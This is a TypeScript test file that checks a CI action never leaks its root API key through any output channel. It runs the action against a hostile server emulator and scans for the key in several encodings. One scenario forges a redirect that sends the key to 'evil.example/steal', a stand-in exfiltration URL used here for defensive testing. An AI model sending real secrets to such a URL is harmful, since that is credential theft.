/**
 * The Root key never leaves in anything the action shows: stdout, stderr, outputs, summary, report, annotations.
 * A hostile server echoes it back in bodies and headers; the scan looks for it raw and in every usual encoding.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startEmulator, type Emulator, type Fault, type Route } from './emulator/server.ts';
import { runAction, type ActionRun } from './support/runner.ts';

// + / = % and " exercise every encoding's special cases.
const KEY = 'rk+Live/Key=42%"quote"\\end';

/** The key as a server, a log or a report could carry it. Written independently of src/redact.ts. */
function encodings(key: string): Record<string, string> {
  const bytes = Buffer.from(key);
  return {
    raw: key,
    base64: bytes.toString('base64').replace(/=+$/, ''),
    base64url: bytes.toString('base64url'),
    hex: bytes.toString('hex'),
    HEX: bytes.toString('hex').toUpperCase(),
    'URL-encoded': encodeURIComponent(key),
    'JSON-escaped': JSON.stringify(key).slice(1, -1),
  };
}

let emulator: Emulator;
beforeAll(async () => {
  emulator = await startEmulator({ keys: { [KEY]: 'root' }, echoKey: true });
});
afterAll(async () => {
  await emulator.close();
});

function channels(run: ActionRun): Record<string, string> {
  // `::add-mask::` lines are how the runner learns what to mask; it never shows them.
  const stdout = run.stdout
    .split('\n')
    .filter((line) => !line.startsWith('::add-mask::'))
    .join('\n');
  return {
    stdout,
    stderr: run.stderr,
    outputs: JSON.stringify(run.outputs),
    summary: run.summary,
    report: run.report,
  };
}

function leaks(run: ActionRun): string[] {
  const found: string[] = [];
  for (const [channel, text] of Object.entries(channels(run))) {
    for (const [encoding, form] of Object.entries(encodings(KEY))) {
      if (text.includes(form)) found.push(`${encoding} in ${channel}`);
    }
  }
  return found;
}

const scenarios: [string, Route, Fault[], Record<string, string>][] = [
  [
    'a refused key echoed in the error body and X-Echo',
    'invalidate/assets',
    [{ status: 401 }],
    { assets: 'a'.repeat(32) },
  ],
  [
    'a 500 echoed on every retry',
    'invalidate/all',
    Array(3).fill({ status: 500, retryAfter: '0' }),
    { scope: 'all' },
  ],
  [
    'the key echoed in HTML, text and JSON shapes',
    'invalidate/domain',
    [
      { status: 502, shape: 'html', retryAfter: '0' },
      { status: 503, shape: 'text', retryAfter: '0' },
      { status: 400, shape: 'success-false-data-message' },
    ],
    { scope: 'domain', domain: 'example.com' },
  ],
  [
    'a redirect whose Location carries the key',
    'invalidate/all',
    [{ status: 307, headers: { location: `https://evil.example/steal?key=${encodeURIComponent(KEY)}` } }],
    { scope: 'all' },
  ],
  [
    'a token answer that is the key, base64-encoded',
    'token',
    [{ body: JSON.stringify({ success: true, data: { token: Buffer.from(KEY).toString('base64') } }) }],
    { scope: 'none', token: 'true' },
  ],
];

describe('the key never leaks', () => {
  for (const debug of [false, true]) {
    it.each(scenarios)(
      `${debug ? 'with' : 'without'} debug logging: %s`,
      async (_name, route, faults, inputs) => {
        emulator.reset();
        emulator.setOptions({ echoKey: true });
        emulator.inject(route, ...faults);
        const run = await runAction(
          { 'api-key': KEY, 'base-url': emulator.url, 'service-key': 'svc', ...inputs },
          debug ? { RUNNER_DEBUG: '1' } : {},
        );
        expect(emulator.requests.length).toBeGreaterThan(0); // the server did get the key, and echoed it
        expect(leaks(run)).toEqual([]);
      },
    );
  }

  it('nor when the key is refused as input (a line break in it)', async () => {
    const key = `${KEY}\nsecond-line`;
    const run = await runAction({ 'api-key': key, 'base-url': emulator.url, 'service-key': 'svc' });
    expect(run.exitCode).toBe(1);
    expect(Object.values(channels(run)).join('\n')).not.toContain('second-line');
    expect(leaks(run)).toEqual([]);
  });
});
